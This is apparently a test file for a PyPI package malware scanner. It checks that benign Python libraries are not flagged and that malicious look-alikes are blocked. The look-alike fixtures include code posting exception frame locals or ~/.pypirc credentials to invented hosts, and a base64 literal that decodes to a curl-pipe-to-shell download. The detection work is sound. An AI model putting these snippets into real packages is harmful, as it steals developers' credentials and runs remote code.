/**
 * Honest Python, third round (docs/package-analysis.md "Branch pkg22"): what honest libraries do that the backstop
 * read as theft, each with the malicious look-alike that must stay BLOCKED.
 *
 *  - doc strings and comments are prose: a credential path or a host named there is not code (the backstop reads the
 *    file with them blanked, codeview.ts);
 *  - a traceback hook (`sys.excepthook` replaced by a library to print errors) is not an interception of another
 *    component; one that sends frame locals to a fixed host stays BLOCKED;
 *  - `.pypirc` parsed with a config parser for its index servers (an upload tool) is not a credential theft; the file
 *    read whole and sent, or its parsed password posted to a fixed host, stays BLOCKED;
 *  - code a library unmarshals or compiles from data it reads when called (a cached `.pyc`) is LOW in runtime code; a
 *    decoded literal run on import stays BLOCKED.
 *
 * Archives are built in memory; nothing is run. Hosts are invented (`.example`).
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rate } from '../support/pypi-variant-rating.js';
import { sdist } from '../support/pypi-variants-pypi22.js';

const py = (files: Record<string, string>) => sdist('pkgx', files, '');

async function notFlagged(files: Record<string, string>): Promise<void> {
  const r = await rate(py(files));
  assert.ok(r.level !== 'BLOCKED' && r.level !== 'CAUTION', `${r.level}: ${r.rules.join(', ')}`);
}

test('a docstring naming ~/.ssh and a comment naming a collector next to an ordinary request are not theft', async () => {
  await notFlagged({
    'pkgx/__init__.py': `"""Deploy helper.

Keys are read from ~/.ssh/id_rsa by the ssh agent, never by this module; tokens from ~/.aws/credentials
are the boto3 session's business. Upload targets look like https://uploads.deploy-help.example/v1.
"""
import urllib.request

# Old collector, kept for reference: https://collect.deploy-help.example/ingest with the ~/.netrc login.
def version(url):
    """Fetch the latest version string from url (the caller's)."""
    with urllib.request.urlopen(url, timeout=5) as r:
        return r.read().decode().strip()

version("https://pypi-mirror.deploy-help.example/latest")
`,
  });
});

test('a library installing a traceback printer as sys.excepthook on import is not flagged', async () => {
  await notFlagged({
    'pkgx/__init__.py': `import sys, traceback, urllib.request

def _hook(t, v, tb):
    sys.stderr.write("".join(traceback.format_exception(t, v, tb)))

sys.excepthook = _hook

def latest():
    return urllib.request.urlopen("https://api.tb-pretty.example/version", timeout=3).read()
`,
  });
});

test('malicious look-alike: an excepthook sending frame locals to a fixed host on import stays BLOCKED', async () => {
  const r = await rate(
    py({
      'pkgx/__init__.py': `import json, sys, urllib.request

def _hook(t, v, tb):
    frames = []
    while tb is not None:
        frames.append({k: repr(x)[:200] for k, x in tb.tb_frame.f_locals.items()})
        tb = tb.tb_next
    urllib.request.urlopen("https://errors.tb-collect.example/i", json.dumps(frames).encode(), timeout=3)

sys.excepthook = _hook
`,
    }),
  );
  assert.is(r.level, 'BLOCKED', r.rules.join(', '));
});

test('an upload tool parsing ~/.pypirc for its index servers, next to a request to its own site, is not flagged', async () => {
  await notFlagged({
    'pkgx/util.py': `import configparser, os
from urllib.request import urlopen

_DATA_BASE = "https://data.upload-kit.example/projects/"

def read_config():
    fn = os.path.join(os.path.expanduser("~"), ".pypirc")
    out = {}
    if os.path.exists(fn):
        config = configparser.RawConfigParser()
        config.read(fn)
        for server in config.get("distutils", "index-servers").split():
            out[server] = dict(config.items(server))
    return out

def project_data(name):
    return urlopen(_DATA_BASE + name).read()
`,
    'pkgx/__init__.py': 'from .util import read_config, project_data\n',
  });
});

test('malicious look-alikes: ~/.pypirc read whole and sent, or its parsed password posted to a fixed host, stay BLOCKED', async () => {
  for (const code of [
    `import os, urllib.request
_d = open(os.path.expanduser("~/.pypirc")).read()
urllib.request.urlopen("https://c.pypirc-grab.example/u", _d.encode())
`,
    `import configparser, os, requests
_c = configparser.RawConfigParser()
_c.read(os.path.expanduser("~/.pypirc"))
for s in _c.get("distutils", "index-servers").split():
    requests.post("https://c.pypirc-grab.example/p", data={"u": _c.get(s, "username"), "p": _c.get(s, "password")})
`,
  ]) {
    const r = await rate(py({ 'pkgx/__init__.py': code }));
    assert.is(r.level, 'BLOCKED', r.rules.join(', '));
  }
});

test("a library module (runtime code) loading its cached bytecode with marshal when called is not flagged; a decoded literal run on import is", async () => {
  await notFlagged({
    'pkgx/loader.py': `import marshal, base64

class Source:
    def __init__(self, path):
        self.path = path

    def read(self, name):
        with open(self.path + "/" + name + ".pyc", "rb") as f:
            data = f.read()
        if data[:4] == b"\\x55\\x0d\\x0d\\x0a":
            return marshal.loads(data[16:])
        with open(self.path + "/" + name + ".py") as f:
            return compile(f.read(), name, "exec")

    def run(self, name, scope):
        exec(self.read(name), scope)

def b64(x):
    return base64.b64decode(x)
`,
    'pkgx/__init__.py': '__version__ = "1.0"\n',
  });
  const r = await rate(
    py({
      'pkgx/__init__.py': `import base64
exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cHM6Ly94LmRyb3AuZXhhbXBsZS9hIHwgc2giKQ=="))
`,
    }),
  );
  assert.is(r.level, 'BLOCKED', r.rules.join(', '));
});

test.run();
